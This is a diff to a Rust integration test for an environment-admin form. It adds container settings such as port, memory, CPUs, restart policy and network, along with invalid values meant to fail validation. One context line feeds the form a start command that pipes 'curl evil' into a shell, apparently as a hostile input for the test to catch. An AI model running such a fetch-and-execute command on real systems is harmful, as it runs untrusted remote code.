@@ -19,6 +19,11 @@ fn create_form<'a>(overrides: &[(&'a str, &'a str)]) -> Vec<(&'a str, &'a str)> 
         ("upstream", ""),
         ("signoff_ttl_hours", "24"),
         ("checklist", "default"),
+        ("port", "8080"),
+        ("memory_mb", ""),
+        ("cpus", ""),
+        ("restart", "no"),
+        ("network", ""),
     ];
     for (k, v) in overrides {
         form.iter_mut().find(|(f, _)| f == k).unwrap().1 = v;
@@ -56,6 +61,12 @@ async fn an_admin_creates_edits_and_archives_with_every_bad_field_named() {
         ("signoff_ttl_hours", "a day"),
         ("checklist", "whatever"),
         ("checklist", "copy:nowhere"),
+        ("port", "0"),
+        ("port", "http"),
+        ("memory_mb", "1"),
+        ("cpus", "many"),
+        ("restart", "sometimes"),
+        ("network", "host"),
     ] {
         let before = c.count("environments").await;
         let audit_before = c.count("audit_log").await;
@@ -124,6 +135,11 @@ async fn an_admin_creates_edits_and_archives_with_every_bad_field_named() {
             ("admin_url", ""),
             ("upstream", ""),
             ("signoff_ttl_hours", "24"),
+            ("port", "8080"),
+            ("memory_mb", "128"),
+            ("cpus", "0.5"),
+            ("restart", "no"),
+            ("network", ""),
         ]
     };
     let mut form = edit("/bin/sh -c 'curl evil | sh' {version}", "/ready");
